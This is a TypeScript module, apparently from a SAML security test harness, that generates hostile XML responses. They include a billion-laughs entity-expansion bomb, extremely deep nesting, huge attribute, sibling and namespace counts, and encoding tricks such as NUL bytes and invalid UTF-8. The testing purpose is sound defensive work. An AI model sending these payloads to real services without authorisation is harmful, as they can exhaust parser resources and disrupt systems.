import type { AttackContext } from './attack-context.ts';
import { replaceOnce } from './attack-context.ts';

/* Documents that parsers read differently, or that cost too much to read. */

const JUNK_SIGNATURE = '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>';

const genuine = ({ idp, answer }: AttackContext) => idp.respondXml(answer);

/** A Response of our own making with something in it, as anybody may post it. */
function unsignedResponse(content: string): string {
  return `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">${JUNK_SIGNATURE}${content}</samlp:Response>`;
}

const repeat = (count: number, part: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => part(index)).join('');

export const xml = {
  utf16: (context: AttackContext) => Buffer.from(`\uFEFF${genuine(context)}`, 'utf16le'),
  invalidUtf8: (context: AttackContext) =>
    Buffer.concat([Buffer.from(genuine(context)), Buffer.from([0x20, 0xc3, 0x28])]),
  nul: (context: AttackContext) => replaceOnce(genuine(context), '<samlp:Status>', '\0<samlp:Status>'),
  byteOrderMark: (context: AttackContext) => `\uFEFF${genuine(context)}`,
  deep: () => unsignedResponse('<a>'.repeat(20_000) + '</a>'.repeat(20_000)),
  manyAttributes: () => unsignedResponse(`<a ${repeat(10_000, (index) => `a${index}="" `)}/>`),
  manySiblings: () => unsignedResponse('<a/>'.repeat(18_000)),
  manyNamespaces: () => {
    const open = repeat(25, (depth) => `<a ${repeat(20, (index) => `xmlns:n${depth}x${index}="urn:n" `)}>`);
    return unsignedResponse(open + '</a>'.repeat(25));
  },
  billionLaughs: (context: AttackContext) => {
    const entities = repeat(9, (index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`);
    const doctype = `<!DOCTYPE r [<!ENTITY l0 "ha">${entities}]>`;
    return doctype + replaceOnce(genuine(context), '<samlp:Status>', '&l9;<samlp:Status>');
  },
};
